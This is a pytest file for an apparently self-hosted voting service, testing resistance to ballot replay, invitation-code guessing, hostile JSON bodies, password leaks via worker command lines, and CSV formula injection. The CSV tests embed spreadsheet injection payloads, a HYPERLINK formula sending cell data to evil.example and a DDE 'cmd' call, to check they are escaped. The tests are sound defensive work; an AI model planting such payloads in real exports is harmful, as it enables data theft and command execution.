"""Abuse that costs the attacker nothing (issue 12), each played against a real server and a
real database (SQLite, or PostgreSQL with BALLOT_TEST_DATABASE_URL): replayed invalid ballots,
invitation-code guessing, hostile bodies, spreadsheet formulas in results.csv.
Listed in docs/threat-model.md, "Abuse that costs the attacker nothing"."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.support.ceremony import hold_ceremony

import ballot.crypto.ballots as ballots_module
from ballot.clients.http import ApiError, Http
from ballot.clients.voter import fetch_election, obtain_token, seal
from ballot.crypto import blind_rsa
from ballot.crypto.ballots import EncryptedBallot
from ballot.crypto.encoding import b64encode
from ballot.store.db import transaction
from ballot.store.models import RateEvent
from ballot.web import create_app
from tests.reliability.helpers import run_parallel
from tests.service.test_meeting_flow import (  # noqa: F401 - fixture
    MEMBERS,
    SLUG,
    open_with_one_trustee,
    server,
)


@pytest.fixture
def opened(server):  # noqa: F811
    meeting, base_url = server
    device, keys, invitations = open_with_one_trustee(meeting, base_url)
    http = Http(base_url)
    return meeting, base_url, http, fetch_election(http, SLUG), invitations


def app_client(meeting, **config):
    """A second app (another worker) on the same database and keys, through Flask's client."""
    app = create_app({"DATABASE_URL": meeting.factory.kw["bind"].url.render_as_string(
        hide_password=False), "KEYS_DIR": str(meeting.keys.path), "MIGRATE": False,
        "RECORDS_DIR": str(meeting.records_dir), **config})
    return app.test_client()


class ProofCounter:
    """Counts every disjunctive-proof verification made in this process."""

    def __init__(self, monkeypatch):
        self.calls = 0
        original = ballots_module.verify_disjunctive

        def counting(*args, **kwargs):
            self.calls += 1
            return original(*args, **kwargs)

        monkeypatch.setattr(ballots_module, "verify_disjunctive", counting)


def broken_last_proof(election, token, key, choices) -> EncryptedBallot:
    """A ballot signed by its token's key whose last unit carries the first unit's proof: it
    decodes, its token and signature are right, and only the last proof check fails."""
    good, _ = seal(election, token, key, choices)
    units = list(good.units)
    units[-1] = (units[-1][0], units[0][1])
    unsigned = EncryptedBallot(good.election, good.token, tuple(units), b"", good.limits)
    return EncryptedBallot(good.election, good.token, tuple(units),
                           key.sign(unsigned.ballot_hash).signature, good.limits)


def post_ballot(http, ballot: EncryptedBallot):
    return http.post(f"/api/v1/elections/{SLUG}/ballots", {"ballot": ballot.to_json()})


# -- 1. replayed invalid ballots ----------------------------------------------------------------


def test_replaying_a_broken_ballot_costs_no_proof_check_on_the_request_path(opened, monkeypatch):
    """Captured traffic: a ballot whose last proof is broken, sent 30 times. Receiving checks
    no proof (docs/protocol.md, "Received, then checked"): the first copy is received (its
    token and signature are right: only the token's holder could have made it) and spends the
    token; the 29 others are refused as "already cast" by the cheapest check. The checker
    checks its proofs once, marks it invalid, and the tally leaves it out."""
    meeting, _, http, election, invitations = opened
    token, key = obtain_token(http, election, invitations["A1"])
    bad = broken_last_proof(election, token, key, [1] * len(MEMBERS))
    counter = ProofCounter(monkeypatch)
    assert post_ballot(http, bad)["receipt"]["tracking_code"] == bad.tracking_code
    for _ in range(29):
        with pytest.raises(ApiError) as e:
            post_ballot(http, bad)
        assert e.value.status == 409, e.value.message
    assert counter.calls == 0  # no proof checked while receiving
    assert [e["status"] for e in meeting.board(SLUG)] == ["received"]
    meeting.close_voting(SLUG)  # checks what is left: this one ballot, once
    assert counter.calls == len(MEMBERS)
    (entry,) = meeting.board(SLUG)
    assert entry["status"] == "invalid" and f"unit {len(MEMBERS)}" in entry["reason"]


def test_parallel_copies_of_a_ballot_are_received_once(opened, monkeypatch):
    meeting, base_url, http, election, invitations = opened
    token, key = obtain_token(http, election, invitations["A1"])
    bad = broken_last_proof(election, token, key, [1] * len(MEMBERS))
    counter = ProofCounter(monkeypatch)
    results = run_parallel(12, lambda i: post_ballot(Http(base_url), bad))
    refused = sorted(r.status for kind, r in results if kind == "err")
    assert refused == [409] * 11, refused  # one received, the copies refused cheaply
    assert counter.calls == 0
    assert len(meeting.board(SLUG)) == 1


def test_tampered_copies_fail_before_any_proof(opened, monkeypatch):
    """Whoever changes a byte of a captured ballot breaks its signature: refused without a
    proof check, and nothing is stored for it."""
    meeting, _, http, election, invitations = opened
    token, key = obtain_token(http, election, invitations["A1"])
    good, _ = seal(election, token, key, [1] * len(MEMBERS))
    counter = ProofCounter(monkeypatch)
    for u in range(len(MEMBERS)):
        units = list(good.units)
        units[u] = (units[u][0], units[(u + 1) % len(MEMBERS)][1])
        forged = EncryptedBallot(good.election, good.token, tuple(units), good.signature,
                                 good.limits)
        with pytest.raises(ApiError) as e:
            post_ballot(http, forged)
        assert e.value.status == 422 and "signature" in e.value.message
    assert counter.calls == 0
    assert meeting.board(SLUG) == []
    assert post_ballot(http, good)["receipt"]["tracking_code"] == good.tracking_code


# -- 2. the invitation throttle -----------------------------------------------------------------


def blinded_msg(election) -> str:
    prepared = blind_rsa.prepare(b"t" * 79)
    blinded, _ = blind_rsa.blind(election.ctx.issuer, prepared)
    return b64encode(blinded)


def test_a_right_code_is_never_blocked_by_wrong_ones_from_its_address(opened, monkeypatch):
    """A venue NAT: twenty wrong codes from one address used to lock out every member behind
    it. Now wrong codes get 429 past the limit, and a right code still gets its token."""
    meeting, _, http, election, invitations = opened
    throttle = meeting.throttles.invitations
    monkeypatch.setattr(throttle, "limit", 3)
    for i in range(3):
        with pytest.raises(ApiError) as e:
            obtain_token(http, election, f"WRONG-{i:04d}")
        assert e.value.status == 403
    with pytest.raises(ApiError) as e:
        obtain_token(http, election, "WRONG-9999")
    assert e.value.status == 429 and "too many failed invitation codes" in e.value.message
    token, _ = obtain_token(http, election, invitations["A1"])  # same address
    assert token
    # Keyed on (address, election): the same address in another election is not limited.
    key_other = meeting.throttles.limiter.key("redeem", "other-election", "127.0.0.1")
    assert meeting.throttles.limiter.count("redeem", key_other, throttle.window) == 0


@pytest.mark.concurrency
def test_parallel_guesses_are_counted_atomically(opened, monkeypatch):
    """120 guesses released together from one address: exactly `limit` are answered with
    their reason (403), every other one 429; the table holds exactly `limit` events."""
    meeting, base_url, _, election, _ = opened
    throttle = meeting.throttles.invitations
    monkeypatch.setattr(throttle, "limit", 20)
    blinded = blinded_msg(election)
    results = run_parallel(120, lambda i: Http(base_url).post(
        f"/api/v1/elections/{SLUG}/tokens", {"invitation": f"GUESS-{i:05d}", "blinded_msg": blinded}))
    codes = [r.status for kind, r in results if kind == "err"]
    assert len(codes) == 120
    assert codes.count(403) == 20 and codes.count(429) == 100, sorted(set(codes))
    with transaction(meeting.factory, read_only=True) as s:
        assert s.query(RateEvent).filter(RateEvent.scope == "redeem").count() == 20


def test_rate_keys_are_salted_with_a_deployment_secret(opened):
    """docs/storage.md: a copy of the database alone cannot tell which address made an event
    (an unsalted SHA-256 of an IPv4 address is found by trying all 2^32)."""
    import hashlib
    import stat

    meeting, _, http, election, _ = opened
    with pytest.raises(ApiError):
        obtain_token(http, election, "WRONG-0000")
    with transaction(meeting.factory, read_only=True) as s:
        stored = [e.key_hash for e in s.query(RateEvent)]
    assert len(stored) == 1
    for guess in ("127.0.0.1", f"{SLUG}\x00127.0.0.1"):
        for text in (f"ballot/v1/rate\0{guess}", f"ballot/v1/rate\0redeem\0{guess}", guess):
            assert hashlib.sha256(text.encode()).hexdigest() not in stored
    secret = meeting.keys.path / "rate-salt.key"
    assert stat.S_IMODE(secret.stat().st_mode) == 0o600 and len(secret.read_bytes()) == 32


def test_trusted_proxies_decide_the_client_address(opened, monkeypatch):
    """BALLOT_TRUSTED_PROXIES: X-Forwarded-For counts only when the request comes from a
    trusted proxy, and only the hops that proxy added (a client's own entries are ignored)."""
    meeting, _, _, election, _ = opened
    monkeypatch.setattr(meeting.throttles.invitations, "limit", 100)
    blinded = blinded_msg(election)
    limiter = meeting.throttles.limiter

    def guess(client, **headers):
        resp = client.post(f"/api/v1/elections/{SLUG}/tokens",
                           json={"invitation": "WRONG-0000", "blinded_msg": blinded},
                           headers=headers, environ_base={"REMOTE_ADDR": "10.0.0.5"})
        assert resp.status_code == 403

    def count(addr):
        # the test's app has its own Meeting (same database, same secret file)
        return limiter.count("redeem", limiter.key("redeem", SLUG, addr), meeting.throttles.invitations.window)

    behind = app_client(meeting, TRUSTED_PROXIES="10.0.0.0/24")
    guess(behind, **{"X-Forwarded-For": "6.6.6.6, 203.0.113.7"})
    assert count("203.0.113.7") == 1 and count("6.6.6.6") == 0 and count("10.0.0.5") == 0
    untrusted = app_client(meeting, TRUSTED_PROXIES="192.0.2.1")
    guess(untrusted, **{"X-Forwarded-For": "203.0.113.9"})
    assert count("10.0.0.5") == 1 and count("203.0.113.9") == 0


def test_trusted_proxy_parsing():
    from ballot.web.proxies import TrustedProxies, parse_networks

    mw = TrustedProxies(lambda *a: None, parse_networks("127.0.0.1, 10.0.0.0/8 ::1"))
    assert mw.client("127.0.0.1", "1.2.3.4") == "1.2.3.4"
    assert mw.client("127.0.0.1", "9.9.9.9, 1.2.3.4, 10.1.1.1") == "1.2.3.4"
    assert mw.client("127.0.0.1", "10.2.2.2, 10.1.1.1") == "10.2.2.2"
    assert mw.client("8.8.8.8", "1.2.3.4") == "8.8.8.8"
    assert mw.client("127.0.0.1", "garbage") == "127.0.0.1"
    assert mw.client("::1", "[2001:db8::1]:443") == "2001:db8::1"
    with pytest.raises(ValueError, match="not an address"):
        parse_networks("10.0.0.0/8, example.org")


# -- 5. hostile bodies --------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["tokens", "ballots", "trustees/1/public"])
def test_json_nested_200000_deep_is_a_400(opened, path):
    meeting = opened[0]
    client = app_client(meeting)
    for body in ("[" * 200_000, '{"a":' * 200_000, '{"ballot": ' + "[" * 200_000):
        resp = client.post(f"/api/v1/elections/{SLUG}/{path}", data=body,
                           content_type="application/json",
                           headers={"Authorization": "Bearer wrong-code"})
        assert resp.status_code == 400, (resp.status_code, resp.data[:200])
        assert "nested too deeply" in resp.get_json()["error"]


@pytest.mark.parametrize("code", ["-", "----", " - - ", "\t-\n", "   "])
def test_an_invitation_of_dashes_or_spaces_is_a_counted_400(opened, code, monkeypatch):
    meeting, _, _, election, _ = opened
    client = app_client(meeting)
    monkeypatch.setattr(client.application.extensions["ballot.meeting"].throttles.invitations,
                        "limit", 2)
    blinded = blinded_msg(election)
    answers = [client.post(f"/api/v1/elections/{SLUG}/tokens",
                           json={"invitation": code, "blinded_msg": blinded}).status_code
               for _ in range(2)]
    assert answers == [400, 400]
    assert client.post(f"/api/v1/elections/{SLUG}/tokens",
                       json={"invitation": code, "blinded_msg": blinded}).status_code == 429


# -- 6. results.csv -----------------------------------------------------------------------------


def test_results_csv_cells_cannot_start_a_formula():
    """OWASP CSV injection: a unit named '=HYPERLINK(...)' (or + - @ tab CR) would run in
    Excel; every such cell gets a leading quote."""
    from ballot.tally.report import results_csv

    names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1,1)", "\tTab", "\rCR", "Nguyễn Văn An"]
    units = [{"unit_id": f"U{i}", "name": n} for i, n in enumerate(names)]
    results = {"manifest": {"levels": [{"code": "=x"}, {"code": "b"}], "units": units},
               "results": {"units": [{
                   "unit_id": u["unit_id"], "counts": {"votes": {"=x": 1}, "abstain": 0},
                   "shares": {}, "level": "=x", "outcome": "-", "rule": {"vi": "@r"}}
                   for u in units]}}
    rows = list(csv.reader(io.StringIO(results_csv(results).lstrip("\ufeff")), delimiter=";"))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[1][2] == "'" + names[0] and rows[-1][2] == "Nguyễn Văn An"
    assert rows[0][3] == "'=x"
    assert json.dumps(rows)  # plain text all through


# -- 4. the database password on worker command lines -------------------------------------------


def test_workers_do_not_show_the_database_url_on_their_command_line(db_url, tmp_path):
    """`--workers N`: every user of the machine can read /proc/<pid>/cmdline. The URL (with
    its password) reaches each worker through its environment, readable only by its user."""
    import os
    import urllib.request

    from sqlalchemy.engine import make_url

    from ballot.service.serve_workers import WorkerProcess
    from ballot.store.migrate import upgrade

    url = make_url(db_url)
    needle = url.database  # SQLite: the file's path
    if url.get_backend_name() == "postgresql":  # trust authentication ignores the password
        url = url.set(password="S3cret-Pa55word")
        needle = "S3cret-Pa55word"
    secret_url = url.render_as_string(hide_password=False)
    upgrade(secret_url)
    worker = WorkerProcess(secret_url, str(tmp_path / "keys"), str(tmp_path / "records"),
                           str(tmp_path / "instance"), threads=2)
    worker.start()
    try:
        cmdline = open(f"/proc/{worker.pid}/cmdline", "rb").read().decode().split("\0")
        assert "--database-url" not in cmdline
        assert not any(secret_url in arg or needle in arg for arg in cmdline), cmdline
        environ = f"/proc/{worker.pid}/environ"
        assert os.stat(environ).st_mode & 0o077 == 0  # the kernel's rule: owner only
        # The worker did get the database: it answers from it.
        with pytest.raises(urllib.error.HTTPError) as e:
            urllib.request.urlopen(f"{worker.url}/api/v1/elections/no-such", timeout=30)
        assert e.value.code == 404
    finally:
        worker.stop()


def test_results_csv_from_a_real_meeting_escapes_formula_names(server):  # noqa: F811
    """A member named like a formula, through a whole meeting to the published results.csv."""
    import urllib.request

    from ballot.clients.voter import vote
    from ballot.election.presets import branch_qd366
    from ballot.election.roll import RollEntry
    from ballot.election.units import Unit

    meeting, base_url = server
    names = ['=HYPERLINK("http://evil.example/?"&A1;"bấm")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+84 912", "-Trần Văn Bình", "Nguyễn Thị Cúc"]
    roll = [RollEntry(f"M{i}", n, "official", None) for i, n in enumerate(names, 1)]
    units = [Unit(unit_id=r.roll_id, name=r.name, kind="member", group="đv") for r in roll]
    levels, rules = branch_qd366()
    codes = meeting.create(slug=SLUG, title="Xếp loại", organisation="Chi bộ", date="2025-12-20",
                           meeting_kind="branch_members", levels=levels, rules=rules, roll=roll,
                           units=units, trustee_names=["T1"], threshold=1)
    (device,), (keys,) = hold_ceremony(meeting, base_url, SLUG, codes)
    invitations = meeting.open_voting(SLUG)
    http = Http(base_url)
    for rid in ("M1", "M2", "M3"):
        vote(http, SLUG, invitations[rid], [0] * len(names))
    meeting.close_voting(SLUG)
    device.decrypt(keys, workers=1)
    meeting.finalize(SLUG)
    meeting.publish(SLUG)
    with urllib.request.urlopen(f"{base_url}/api/v1/elections/{SLUG}/results.csv") as resp:
        text = resp.read().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], rows
    assert [row[2] for row in rows[1:]] == ["'" + n for n in names[:4]] + [names[4]]


@pytest.mark.concurrency
def test_parallel_guesses_across_worker_processes_get_exactly_the_limit(db_url, tmp_path):
    """The issue's measurement, against server worker *processes* (three on PostgreSQL, one
    on SQLite): 120 wrong codes released together from one address, round robin over the
    workers, got 27 answers past a limit of 20. Now exactly 20 are answered 403."""
    from tests.reliability.helpers import open_meeting, start_deployment, stop_deployment

    dep = start_deployment(db_url, tmp_path)
    try:
        om = open_meeting(dep)
        blinded = blinded_msg(om.election)
        results = run_parallel(120, lambda i: dep.http().post(
            f"/api/v1/elections/{om.election.slug}/tokens",
            {"invitation": f"GUESS-{i:05d}", "blinded_msg": blinded}))
        codes = [r.status for kind, r in results if kind == "err"]
        assert len(codes) == 120
        assert codes.count(403) == 20 and codes.count(429) == 100, sorted(set(codes))
        token, _ = obtain_token(dep.http(), om.election, next(iter(om.invitations.values())))
        assert token  # a right code from the same address is not blocked
    finally:
        stop_deployment(dep)
